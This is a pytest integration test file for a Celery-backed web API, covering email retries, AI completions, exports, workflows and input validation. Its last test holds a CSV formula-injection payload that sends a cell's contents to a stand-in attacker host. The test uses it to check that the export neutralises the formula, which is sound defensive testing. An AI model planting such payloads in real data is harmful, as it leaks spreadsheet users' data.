"""Every endpoint -> task -> result on a real Stack (redis-server, celery worker, uvicorn, SMTP sink, AI stub)."""

from __future__ import annotations

import csv
import json
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import psutil
import pytest

from lab.ai_stub import reply_for
from lab.stack import Stack
from tests.support import create_user, unique_email, wait_task


@pytest.fixture
def api(app_stack: Stack) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=app_stack.urls["api"], timeout=30) as client:
        yield client
    app_stack.sink_refuse(0)
    app_stack.ai_control(fail_next=0, error_rate=0)


def test_signup_sends_the_welcome_email(api: httpx.Client, app_stack: Stack) -> None:
    email = unique_email("welcome")
    resp = api.post("/api/v1/users", json={"email": email, "name": "Ada"})
    assert resp.status_code == 201
    body = resp.json()
    assert body["email"] == email
    status = wait_task(api, body["welcome_task_id"])
    assert status["status"] == "SUCCESS"
    assert status["result"] == {"user_id": body["id"], "email": email, "retries": 0}
    assert [m["subject"] for m in app_stack.sink_messages(to=email)] == ["Welcome!"]
    timeline = status["timeline"]
    assert timeline["name"] == "app.tasks.email.send_welcome_email"
    assert timeline["sent"] <= timeline["started"] <= timeline["finished"]


def test_duplicate_email_is_409(api: httpx.Client) -> None:
    user = create_user(api)
    resp = api.post("/api/v1/users", json={"email": user["email"], "name": "Again"})
    assert resp.status_code == 409
    assert "already exists" in resp.json()["detail"]


def test_smtp_refusals_are_retried_to_success(api: httpx.Client, app_stack: Stack) -> None:
    app_stack.sink_refuse(2)
    email = unique_email("retry")
    task_id = api.post("/api/v1/users", json={"email": email, "name": "R"}).json()["welcome_task_id"]
    status = wait_task(api, task_id)
    assert status["status"] == "SUCCESS"
    assert status["result"]["retries"] == 2
    assert status["timeline"]["attempt"] == 3
    assert len(app_stack.sink_messages(to=email)) == 1


def test_smtp_refusals_beyond_max_retries_fail(api: httpx.Client, app_stack: Stack) -> None:
    app_stack.sink_refuse(100)
    email = unique_email("fail")
    task_id = api.post("/api/v1/users", json={"email": email, "name": "F"}).json()["welcome_task_id"]
    status = wait_task(api, task_id)
    assert status["status"] == "FAILURE"
    assert "451" in status["error"]
    assert status["retries"] == 3  # CELERY_TASK_MAX_RETRIES: the first try and three retries
    assert app_stack.sink_messages(to=email) == []


def sink_refuse(stack: Stack, count: int, *, code: int, to: str) -> None:
    """Stack.sink_refuse answers 451 to anyone; the sink's control also takes a reply code and a recipient."""
    body = {"count": count, "code": code, "to": to}
    httpx.post(stack.urls["smtp_control"] + "/refuse", json=body, timeout=5).raise_for_status()


def sink_refused(stack: Stack) -> int:
    return int(httpx.get(stack.urls["smtp_control"] + "/stats", timeout=5).json()["refused"])


def test_smtp_4xx_is_retried_to_success(api: httpx.Client, app_stack: Stack) -> None:
    email = unique_email("temp")
    sink_refuse(app_stack, 1, code=452, to=email)
    task_id = api.post("/api/v1/users", json={"email": email, "name": "T"}).json()["welcome_task_id"]
    status = wait_task(api, task_id)
    assert status["status"] == "SUCCESS", status
    assert status["result"]["retries"] == 1
    assert status["timeline"]["attempt"] == 2
    assert len(app_stack.sink_messages(to=email)) == 1


@pytest.mark.parametrize("code", [550, 554])
def test_smtp_5xx_fails_the_welcome_email_at_once(api: httpx.Client, app_stack: Stack, code: int) -> None:
    """A permanent refusal is final: one attempt, no retry (which here would have been delivered)."""
    email = unique_email("perm")
    sink_refuse(app_stack, 1, code=code, to=email)
    refused = sink_refused(app_stack)
    task_id = api.post("/api/v1/users", json={"email": email, "name": "P"}).json()["welcome_task_id"]
    status = wait_task(api, task_id)
    assert status["status"] == "FAILURE", status
    assert str(code) in status["error"]
    assert status["retries"] == 0
    assert (status["timeline"]["attempt"], status["timeline"]["state"]) == (1, "FAILURE")
    assert sink_refused(app_stack) == refused + 1
    assert app_stack.sink_messages(to=email) == []


def test_smtp_5xx_fails_the_notification_email_at_once(api: httpx.Client, app_stack: Stack) -> None:
    user = create_user(api)
    assert wait_task(api, user["welcome_task_id"])["status"] == "SUCCESS"  # its own delivery, not refused
    sink_refuse(app_stack, 1, code=550, to=user["email"])
    group = api.post("/api/v1/workflows/group", json={"user_ids": [user["id"]], "subject": "N", "body": "B"}).json()
    assert wait_task(api, group["task_id"])["status"] == "FAILURE"
    child = wait_task(api, group["children"][0])
    assert child["status"] == "FAILURE", child
    assert "550" in child["error"]
    assert child["retries"] == 0
    assert child["timeline"]["attempt"] == 1
    assert [m["subject"] for m in app_stack.sink_messages(to=user["email"])] == ["Welcome!"]


def test_ai_completion_saves_and_counts_real_tokens(api: httpx.Client, app_stack: Stack) -> None:
    user = create_user(api)
    prompt = "Explain acks_late in one short sentence please"
    resp = api.post("/api/v1/ai/completions", json={"prompt": prompt, "user_id": user["id"], "request_id": "req-1x"})
    assert resp.status_code == 202
    status = wait_task(api, resp.json()["task_id"])
    assert status["status"] == "SUCCESS"
    tokens = len(prompt.split()) + len(reply_for(prompt).split())
    assert status["result"] == {"request_id": "req-1x", "status": "completed", "tokens": tokens}
    db = Path(app_stack.settings.database_url.removeprefix("sqlite:///"))
    with sqlite3.connect(db) as conn:
        rows = conn.execute("select user_id, tokens from completions where request_id='req-1x'").fetchall()
    assert rows == [(user["id"], tokens)]


def test_ai_5xx_is_retried_then_fails_after_max_retries(api: httpx.Client, app_stack: Stack) -> None:
    user = create_user(api)
    app_stack.ai_control(fail_next=2)
    ok = api.post("/api/v1/ai/completions", json={"prompt": "hi", "user_id": user["id"]}).json()
    status = wait_task(api, ok["task_id"])
    assert status["status"] == "SUCCESS"
    assert status["retries"] == 2
    app_stack.ai_control(fail_next=100)
    bad = api.post("/api/v1/ai/completions", json={"prompt": "hi", "user_id": user["id"]}).json()
    status = wait_task(api, bad["task_id"])
    assert status["status"] == "FAILURE"
    assert "500" in status["error"]
    assert status["retries"] == 3


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_export_shows_progress_then_writes_the_file(api: httpx.Client, app_stack: Stack, fmt: str) -> None:
    user = create_user(api, name="Exporter")
    resp = api.post(f"/api/v1/users/{user['id']}/export", params={"format": fmt})
    assert resp.status_code == 202
    body = resp.json()
    assert body["status"] == "pending"
    assert body["check_url"] == f"/api/v1/tasks/{body['task_id']}"
    seen: list[str] = []
    status = wait_task(api, body["task_id"], seen=seen)
    assert status["status"] == "SUCCESS", status
    assert "PROGRESS" in seen and seen.index("PROGRESS") < seen.index("SUCCESS")
    name = status["result"]["file"]
    assert "/" not in name and "file_path" not in status["result"]  # no server path in a public result
    path = Path(app_stack.settings.export_dir) / name
    assert path.suffix == f".{fmt}"
    if fmt == "json":
        assert json.loads(path.read_text())["user"]["email"] == user["email"]
    else:
        rows = list(csv.reader(path.open()))
        assert rows[0] == ["section", "key", "value"]
        assert ["user", "email", user["email"]] in rows


def test_progress_is_reported_with_percent(api: httpx.Client) -> None:
    user = create_user(api)
    task_id = api.post(f"/api/v1/users/{user['id']}/export").json()["task_id"]
    progress_seen: list[dict] = []

    def sample() -> bool:
        body = api.get(f"/api/v1/tasks/{task_id}").json()
        if body["status"] == "PROGRESS":
            progress_seen.append(body["progress"])
        return body["status"] == "SUCCESS"

    from lab.procs import wait_until

    wait_until(sample, timeout=60, what="export", interval=0.05)
    assert progress_seen, "never saw PROGRESS"
    percents = [p["percent"] for p in progress_seen]
    assert percents == sorted(percents)
    assert all(p["total"] == 4 and 0 < p["percent"] <= 100 for p in progress_seen)


def test_chain_group_and_chord(api: httpx.Client, app_stack: Stack) -> None:
    users = [create_user(api) for _ in range(3)]
    chain = api.post("/api/v1/workflows/chain", json={"user_id": users[0]["id"]}).json()
    assert len(chain["children"]) == 3
    status = wait_task(api, chain["task_id"])
    assert status["status"] == "SUCCESS"
    assert status["kind"] == "chain"
    assert status["result"] == {"user_id": users[0]["id"], "completions": 0, "tokens": 0, "saved": True}
    assert [c["status"] for c in status["children"]] == ["SUCCESS"] * 3

    ids = [u["id"] for u in users]
    group = api.post("/api/v1/workflows/group", json={"user_ids": ids, "subject": "S", "body": "B"}).json()
    status = wait_task(api, group["task_id"])
    assert status["status"] == "SUCCESS"
    assert status["kind"] == "group"
    assert sorted(r["user_id"] for r in status["result"]) == sorted(ids)
    for u in users:
        assert [m["subject"] for m in app_stack.sink_messages(to=u["email"])][-1] == "S"

    items = [3, -2, 7, 0, 11]
    chord = api.post("/api/v1/workflows/chord", json={"items": items}).json()
    status = wait_task(api, chord["task_id"])
    assert status["status"] == "SUCCESS"
    assert status["kind"] == "chord"
    assert status["result"] == {"count": 5, "total": sum(i * i for i in items)}
    assert len(status["children"]) == 5
    assert all(c["status"] == "SUCCESS" for c in status["children"])


@pytest.mark.parametrize(
    ("method", "path", "kwargs", "expect"),
    [
        ("post", "/api/v1/users/1/export", {"params": {"format": "xml"}}, "format"),
        ("post", "/api/v1/users/0/export", {}, "user_id"),
        ("post", "/api/v1/users", {"json": {"email": "not-an-email", "name": "x"}}, "email"),
        ("post", "/api/v1/users", {"json": {"email": "a@b.co", "name": "x", "admin": True}}, "admin"),
        ("post", "/api/v1/ai/completions", {"json": {"prompt": "", "user_id": 1}}, "prompt"),
        ("post", "/api/v1/workflows/chord", {"json": {"items": []}}, "items"),
        ("post", "/api/v1/workflows/chord", {"json": {"items": ["x"]}}, "items"),
        ("get", "/api/v1/tasks/has%20space", {}, "task_id"),
    ],
)
def test_bad_input_is_422_with_a_clear_message(api: httpx.Client, method: str, path: str, kwargs, expect) -> None:
    resp = getattr(api, method)(path, **kwargs)
    assert resp.status_code == 422, resp.text
    assert expect in resp.json()["message"]


def dispatched_total(client: httpx.Client) -> float:
    lines = client.get("/metrics").text.splitlines()
    return sum(float(line.rsplit(" ", 1)[1]) for line in lines if line.startswith("api_tasks_dispatched_total{"))


def test_unknown_user_is_404_and_dispatches_nothing(stack_factory: Callable[..., Stack]) -> None:
    """On a Stack with no worker every published task stays on the broker's queue list: the 404s add none."""
    stack = stack_factory(workers=0, smtp=False, ai_stub=False)
    broker, backend, cache = stack.redis(0), stack.redis(1), stack.redis(2)
    with httpx.Client(base_url=stack.urls["api"], timeout=30) as client:
        user = create_user(client)  # its welcome email: the one task on the queue
        queued, dispatched = broker.llen("celery"), dispatched_total(client)
        assert (queued, dispatched) == (1, 1)
        for path, kw in [
            ("/api/v1/users/999999/export", {}),
            ("/api/v1/ai/completions", {"json": {"prompt": "p", "user_id": 999999}}),
            ("/api/v1/workflows/chain", {"json": {"user_id": 999999}}),
            ("/api/v1/workflows/group", {"json": {"user_ids": [999999], "subject": "S", "body": "B"}}),
            ("/api/v1/workflows/group", {"json": {"user_ids": [user["id"], 999999], "subject": "S", "body": "B"}}),
        ]:
            resp = client.post(path, **kw)
            assert resp.status_code == 404, (path, resp.text)
        assert broker.llen("celery") == queued, "a 404 published a task"
        assert dispatched_total(client) == dispatched
        assert list(backend.scan_iter("celery-task-meta-*")) == []
        assert list(cache.scan_iter("workflow:*")) == []
        # The same measure sees a dispatch that did happen.
        assert client.post(f"/api/v1/users/{user['id']}/export").status_code == 202
        assert broker.llen("celery") == queued + 1
        assert dispatched_total(client) == dispatched + 1
    for c in (broker, backend, cache):
        c.close()


def test_unknown_task_is_pending_with_message(api: httpx.Client) -> None:
    body = api.get("/api/v1/tasks/no-such-task").json()
    assert body == {
        "task_id": "no-such-task",
        "status": "PENDING",
        "message": "Task is waiting to be processed",
        "kind": "task",
    }


def test_health_reports_broker_and_workers(api: httpx.Client, app_stack: Stack) -> None:
    resp = api.get("/health")
    assert resp.status_code == 200
    body = resp.json()
    assert body["status"] == "ok"
    assert body["broker"]["ok"] is True
    assert body["workers"]["names"] == sorted(w.hostname for w in app_stack.workers.values())


def test_request_id_is_echoed(api: httpx.Client) -> None:
    assert api.get("/health", headers={"X-Request-ID": "abc123"}).headers["x-request-id"] == "abc123"
    assert len(api.get("/health").headers["x-request-id"]) == 32


def api_subscriptions(stack: Stack) -> tuple[int, int]:
    """(connections, channel + pattern subscriptions) the API process holds on the Stack's redis-server."""
    redis_port = stack.ports["redis"]
    conns = psutil.Process(stack.procs["api"].pid).net_connections(kind="tcp")
    ours = {f"{c.laddr.ip}:{c.laddr.port}" for c in conns if c.raddr and c.raddr.port == redis_port}
    server = stack.redis(1)
    try:
        clients = [c for c in server.client_list() if c["addr"] in ours]
    finally:
        server.close()
    return len(clients), sum(int(c.get("sub", 0)) + int(c.get("psub", 0)) for c in clients)


def test_dispatching_leaves_no_result_subscriptions(api: httpx.Client, app_stack: Stack) -> None:
    """Stock Celery subscribes the publisher to each sent task's result channel; the API never reads them."""
    users = [create_user(api)["id"] for _ in range(2)]
    _, before = api_subscriptions(app_stack)
    ids: list[str] = []
    # Two members each: a chord of one item leaves nothing for _unfollow to drop, so it would not test that.
    for _ in range(10):
        for path, body in [
            ("/api/v1/workflows/chord", {"items": [2, 3]}),
            ("/api/v1/workflows/group", {"user_ids": users, "subject": "S", "body": "B"}),
        ]:
            resp = api.post(path, json=body)
            assert resp.status_code == 202, resp.text
            ids += [resp.json()["task_id"], *resp.json()["children"]]
    connections, after = api_subscriptions(app_stack)
    assert connections > 0, "found none of the API's Redis connections: the count below would prove nothing"
    assert after == before, (before, after)
    channels = [f"celery-task-meta-{task_id}" for task_id in ids]
    server = app_stack.redis(1)
    subscribed = {name.decode(): n for name, n in server.pubsub_numsub(*channels) if n}
    server.close()
    assert subscribed == {}, subscribed


def test_csv_export_neutralises_formulas(api: httpx.Client, app_stack: Stack) -> None:
    # Before: a name like =HYPERLINK(...) was written as is, and a spreadsheet opening the export runs it.
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    user = create_user(api, name=hostile)
    resp = api.post(f"/api/v1/users/{user['id']}/export", params={"format": "csv"})
    status = wait_task(api, resp.json()["task_id"])
    assert status["status"] == "SUCCESS", status
    rows = list(csv.reader((Path(app_stack.settings.export_dir) / status["result"]["file"]).open()))
    assert ["user", "name", "'" + hostile] in rows
